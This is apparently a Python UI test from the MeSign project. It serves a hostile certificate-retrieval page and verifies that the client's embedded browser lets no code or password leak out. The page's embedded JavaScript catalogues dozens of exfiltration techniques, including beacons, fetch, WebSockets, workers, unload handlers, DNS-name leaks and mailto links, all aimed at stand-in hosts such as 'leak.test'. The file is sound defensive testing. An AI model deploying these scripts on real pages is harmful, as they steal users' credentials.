#!/usr/bin/python3
# SPDX-FileCopyrightText: 2026 The MeSign developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""A retrieval page that gives away what is filled into it: code and password reach the provider's own site and nobody else.

As root it runs in a network of its own, where every packet that would leave is heard, and every name that is asked for.

usage: test_hostile_page.py MESIGN MESIGNCTL
"""

import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "samples"))

# pylint: disable=wrong-import-position
import tap  # noqa: E402
from mesign_samples import silence  # noqa: E402
from mesign_ui import browser  # noqa: E402
from mesign_ui.case import UiCase  # noqa: E402
from mesign_ui.display import wait_until  # noqa: E402
from mesign_ui.shop import Shop, letter  # noqa: E402
from mesign_ui.web import Page  # noqa: E402

CODE = "CANARY42CODE"
TITLE = "Account Page – The Shop"

_FORM = """<form method=post action=/retrieve id=form>
<input name=email><input name=code><input name=pw type=password><input name=again type=password>
<input name=captcha><button>Go</button></form>"""

# What the page reads goes to its own site, too: that shows that there was something to give away.
_READ = """
const field = (name) => document.querySelector(`[name=${name}]`);
const read = () => field("code").value + "." + field("pw").value;
const own = (what) => fetch("/heard", {method: "POST", body: what});
const foreign = "https://localhost:%(foreign)d/";
let known = false;
document.addEventListener("input", () => {
  if (known || !field("code").value || !field("pw").value) return;
  known = true;
  own(read());
  setTimeout(filled, 100);
});
"""

# Every way in which a page asks for something, without that anybody presses anything.
_QUIET = """
function ask(document, base) {
  const url = (way) => base + way + "?" + encodeURIComponent(read());
  const add = (tag, values, parent) => (parent || document.body).appendChild(Object.assign(document.createElement(tag), values));
  const ways = {
    image: () => { new Image().src = url("image"); },
    fetch: () => fetch(url("fetch"), {mode: "no-cors"}),
    keepalive: () => fetch(url("keepalive"), {mode: "no-cors", keepalive: true, method: "POST", body: read()}),
    xhr: () => { const x = new XMLHttpRequest(); x.open("POST", url("xhr")); x.send(read()); },
    beacon: () => navigator.sendBeacon(url("beacon"), read()),
    socket: () => { const s = new WebSocket(url("socket").replace("https", "wss")); s.onopen = () => s.send(read()); },
    events: () => new EventSource(url("events")),
    script: () => add("script", {src: url("script")}),
    style: () => add("link", {rel: "stylesheet", href: url("style")}),
    preload: () => add("link", {rel: "preload", as: "image", href: url("preload")}, document.head),
    prefetch: () => add("link", {rel: "prefetch", href: url("prefetch")}, document.head),
    preconnect: () => add("link", {rel: "preconnect", href: url("preconnect")}, document.head),
    dns: () => add("link", {rel: "dns-prefetch", href: url("dns")}, document.head),
    manifest: () => add("link", {rel: "manifest", href: url("manifest")}, document.head),
    icon: () => add("link", {rel: "icon", href: url("icon")}, document.head),
    frame: () => add("iframe", {src: url("frame")}),
    object: () => add("object", {data: url("object")}),
    embed: () => add("embed", {src: url("embed")}),
    video: () => add("video", {src: url("video"), autoplay: true}),
    audio: () => add("audio", {src: url("audio"), preload: "auto"}),
    background: () => { const d = add("div"); d.style.backgroundImage = `url(${url("background")})`; d.textContent = "x"; },
    font: () => new FontFace("x", `url(${url("font")})`).load(),
    imported: () => import(url("imported")),
    worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${url("worker")}", {mode: "no-cors"})`]))),
    shared: () => new SharedWorker(URL.createObjectURL(new Blob([`fetch("${url("shared")}", {mode: "no-cors"})`]))),
    form: () => { const name = "n" + base.length; add("iframe", {name});
                  add("form", {action: url("form"), method: "post", target: name}).submit(); },
    service: () => navigator.serviceWorker.register("/service.js").then(() => navigator.serviceWorker.ready)
                     .then((it) => it.active.postMessage(url("service"))),
    report: () => { const m = add("meta", {httpEquiv: "Content-Security-Policy", content: `img-src 'self'; report-uri ${url("report")}`}); },
  };
  for (const way of Object.values(ways)) try { Promise.resolve(way()).catch(() => {}); } catch (e) { }
}
"""

_FILLED = {
    # The page as it is.
    "plain": "function filled() { ask(document, foreign); done(); }",
    # A page that is no fill page any more, by its address.
    "moved": "function filled() { history.pushState({}, '', '/elsewhere'); ask(document, foreign); done(); }",
    # Frames that are the page's own documents.
    "framed": """function filled() {
        const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), {srcdoc: "<p>x"}));
        frame.onload = () => { ask(frame.contentDocument, foreign); done(); }; }""",
    # Names alone carry it away.
    "named": "function filled() { ask(document, 'https://canary42code.leak.test/'); done(); }",
    # A connection that is open before anything is filled in.
    "early": """history.pushState({}, '', '/elsewhere');
        const early = new WebSocket(foreign.replace("https", "wss") + "early");
        fetch(foreign + "early", {mode: "no-cors"});
        history.pushState({}, '', '/retrieve');
        function filled() { try { early.send(read()); } catch (e) { } ask(document, foreign); done(); }""",
    # A stranger's frame that is there before, and is told.
    "told": """const guest = document.body.appendChild(Object.assign(document.createElement("iframe"), {src: foreign + "guest"}));
        function filled() { guest.contentWindow.postMessage(read(), "*"); guest.src = foreign + "guest?" + read(); done(); }""",
    # A field that keeps the keyboard, in a frame of a stranger's.
    "focus": """const greedy = document.body.appendChild(Object.assign(document.createElement("iframe"),
            {src: foreign + "greedy", srcdoc: ""}));
        greedy.removeAttribute("srcdoc");
        function filled() { greedy.focus(); ask(document, foreign); done(); }""",
}

_DONE = "const done = () => setTimeout(() => own('done'), 1500);"

_SERVICE = "self.onmessage = (event) => fetch(event.data, {mode: 'no-cors'});"

# What a key pressed for the random code lets a page do.
_LOUD = """
const away = () => foreign + "?" + encodeURIComponent(read());
const loud = {
  1: () => { location = away(); },
  2: () => { open(away()); },
  3: () => { const w = open("about:blank"); w.document.write(`<img src="${away()}">`); },
  4: () => { const a = document.body.appendChild(document.createElement("a")); a.href = away(); a.download = "x.pfx"; a.click(); },
  5: () => { location = "mailto:eve@leak.test?body=" + encodeURIComponent(read()); },
  6: () => { field("code").form.action = away(); field("code").form.submit(); },
  7: () => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + away(); document.head.append(m); },
  8: () => { const a = document.body.appendChild(document.createElement("a")); a.href = away(); a.target = "_blank"; a.click(); },
  9: () => { const a = document.body.appendChild(document.createElement("a")); a.href = "/elsewhere"; a.ping = away(); a.click(); },
};
function filled() { own("done"); }
document.addEventListener("keydown", ({ key }) => { if (loud[key]) { own("tried " + key); setTimeout(loud[key], 300); } });
"""

# What goes on asking for as long as the page lives, and asks once more when it is left.
_LEFT = """
const last = (way) => {
  const url = foreign + way + "?" + encodeURIComponent(read());
  navigator.sendBeacon(url, read());
  fetch(url, {mode: "no-cors", keepalive: true, method: "POST", body: read()}).catch(() => {});
  new Image().src = url;
  const x = new XMLHttpRequest();
  x.open("POST", url, false);
  try { x.send(read()); } catch (e) { }
};
const hand_out = () => {
  const a = document.body.appendChild(document.createElement("a"));
  a.href = "/mine.p12";
  a.click();
};
function filled() {
  for (const kind of ["pagehide", "unload", "beforeunload", "visibilitychange"]) addEventListener(kind, () => last(kind));
  setInterval(() => { new Image().src = foreign + "still?" + encodeURIComponent(read()) + Math.random(); }, 20);
  setInterval(() => fetch(foreign + "on?" + encodeURIComponent(read()), {mode: "no-cors"}).catch(() => {}), 50);
  done();
}
"""


class HostilePage(UiCase):
    """Alice retrieves a certificate; the page is in the hands of somebody who wants her code and password."""

    services = "imap,smtp,ca"
    users = "alice"
    limit = 170
    outside: silence.Listener | None = None

    def setUp(self):
        super().setUp()
        self.shop = Shop(self.world.folder, b"none")
        self.enterContext(self.shop.running())
        self.shop.own.pages["/service.js"] = _SERVICE
        self.world.prepare("alice", sync=False)
        self.world.command_line("alice").run("provider", "add", str(self.shop.profile), "--yes")
        self.browser = browser.install(self.display.folder / "home", self.world.folder)

    def page(self, *scripts: str) -> str:
        return _FORM + "<script>" + "\n".join([_READ % self.shop.ports, _DONE, *scripts]) + "</script>"

    def retrieve(self, *scripts: str):
        """Opens the retrieval page from the mail, as a person does, and waits until it has what was filled in."""
        self.shop.own.pages["/retrieve"] = self.page(*scripts)
        self.world.deliver("alice", letter(self.shop.ports["own"], self.world.address("alice"), CODE))
        if self.outside is not None:
            self.outside.heard.clear()
        client = self.start(self.world.profile("alice"))
        client.click(client.wait_for("list item", ".*pick up.*", limit=40))
        client.press("Continue…")
        client.wait_for("label", text="Choose a Protection Password")
        client.press("Continue")
        client.wait_for_window(TITLE)
        self.secret = self.world.command_line("alice").run("retrieval", "show", "1")["journey"]["password"]
        wait_until(lambda: f"{CODE}.{self.secret}" in self.shop.own.told, "the page has read what was filled in", 30)
        wait_until(lambda: "done" in self.shop.own.told, "the page has tried everything", 30)
        return client

    def assert_nothing_left(self, client):
        self.assertEqual(self.shop.foreign.asked, [])
        self.assertEqual(self.shop.foreign.told, [])
        self.assertFalse(self.browser.exists(), self.browser.exists() and self.browser.read_text(encoding="utf-8"))
        if self.outside is not None:
            self.assertEqual(self.outside.heard, [])
        text = client.log.read_text(encoding="utf-8", errors="replace")
        self.assertNotIn(CODE, text)
        self.assertNotIn(self.secret, text)

    def quiet(self, name: str):
        client = self.retrieve(_QUIET, _FILLED[name])
        time.sleep(2)
        self.assert_nothing_left(client)

    def test_quiet_plain(self):
        self.quiet("plain")

    def test_quiet_moved(self):
        self.quiet("moved")

    def test_quiet_framed(self):
        self.quiet("framed")

    def test_quiet_named(self):
        if self.outside is not None:
            self.assertTrue(self.outside.hears_everything("192.0.2.7", "canary.leak.test"))
        self.quiet("named")

    def test_quiet_early(self):
        self.quiet("early")

    def test_quiet_told(self):
        self.quiet("told")

    def test_quiet_focus(self):
        self.quiet("focus")

    def test_loud(self):
        """Keys pressed in the page lead nowhere: no page, no window, no browser, no mail, no download."""
        client = self.retrieve(_LOUD)
        page = Page(client, TITLE)
        for key in "123456789":
            page.wait_for("/retrieve.*")
            if client.find("push button", "Fill In"):
                self.shop.own.told.clear()
                client.press("Fill In")
                wait_until(lambda: "done" in self.shop.own.told, "it is filled in again", 20)
            page.focus()
            page.press(key)
            wait_until(lambda k=key: f"tried {k}" in self.shop.own.told, f"way {key} is tried", 10)
            time.sleep(1.2)
            self.assert_nothing_left(client)
            is_refused = page.address.startswith("Address ")
            if is_refused:
                self.assertIsNone(client.find("push button", "Open in Browser", where=lambda node: node.has("sensitive")))
            self.assertEqual(len([node for node in client.root.children() if node.name == TITLE]), 1)
            self.assertFalse(any("New Message" in node.name for node in client.root.children()))
            if is_refused:
                client.press("Go Back", within=client.wait_for_window(TITLE))
        self.assert_calm(client)

    def test_left(self):
        """Nor when the window is closed."""
        client = self.retrieve(_LEFT)
        client.window(TITLE).close()
        client.wait_until_closed(TITLE)
        time.sleep(2)
        self.assert_nothing_left(client)

    def test_left_for_home(self):
        """Nor when the provider's first page is opened in its place, where others may be asked again."""
        client = self.retrieve(_LEFT)
        self.shop.own.pages["/"] = f"<img src=https://localhost:{self.shop.ports['foreign']}/at-home>"
        client.press("Menu", within=client.wait_for_window(TITLE))
        client.press("Start Page", role="menu item")
        wait_until(lambda: "/at-home" in self.shop.foreign.asked, "the first page asks others")
        time.sleep(2)
        self.shop.foreign.asked.remove("/at-home")
        self.assert_nothing_left(client)

    def test_left_by_logging_out(self):
        client = self.retrieve(_LEFT)
        client.press("Menu", within=client.wait_for_window(TITLE))
        client.press("Log Out and Forget…", role="menu item")
        client.wait_for("label", text="Log Out of The Shop.*")
        client.press("Log Out")
        wait_until(lambda: self.shop.own.asked[-1] == "/", "the first page is opened")
        time.sleep(2)
        self.assert_nothing_left(client)

    def test_handed_out(self):
        """Nor after a certificate that the page hands out is imported: the password opens the one that comes by mail."""
        pfx = self.world.folder / "mine.p12"
        self.sandbox.command("issue", address=self.world.address("alice"), name="王芳", out=str(pfx), password="try-it")
        self.shop.own.pages["/mine.p12"] = pfx.read_bytes()
        client = self.retrieve(_LEFT, "setTimeout(hand_out, 4000);")
        client.wait_for("label", text="Import the certificate “mine.p12”.", limit=30)
        client.write("Password of the certificate", "try-it")
        client.press("Import", within=client.wait_for_window(TITLE))
        client.wait_for("label", text="The certificate is imported.")
        time.sleep(2)
        self.assert_nothing_left(client)
        client.window(TITLE).close()
        client.wait_until_closed(TITLE)
        time.sleep(1)
        self.assert_nothing_left(client)
        self.assert_calm(client)

    def test_hearing(self):
        """The listener does hear: the same ways from a page that nothing is filled into reach it."""
        self.shop.own.pages["/"] = self.page(_QUIET, "setTimeout(() => { ask(document, foreign); done(); }, 300);",
                                             "function filled() { }")
        client = self.start(self.world.profile("alice"))
        self.shop.own.pages["/retrieve"] = self.shop.own.pages["/"]
        client.wait_for("push button", "New Message", limit=30)
        client.press("Main Menu")
        client.press("Certificate Account", role="menu item")
        wait_until(lambda: "done" in self.shop.own.told, "the page has tried everything", 60)
        for way in ("image", "fetch", "xhr", "beacon", "script", "style", "worker"):
            self.assertTrue(any(path.startswith(f"/{way}?") for path in self.shop.foreign.asked), way)


if __name__ == "__main__":
    if silence.enter() is None:
        HostilePage.outside = silence.Listener()
    tap.main()
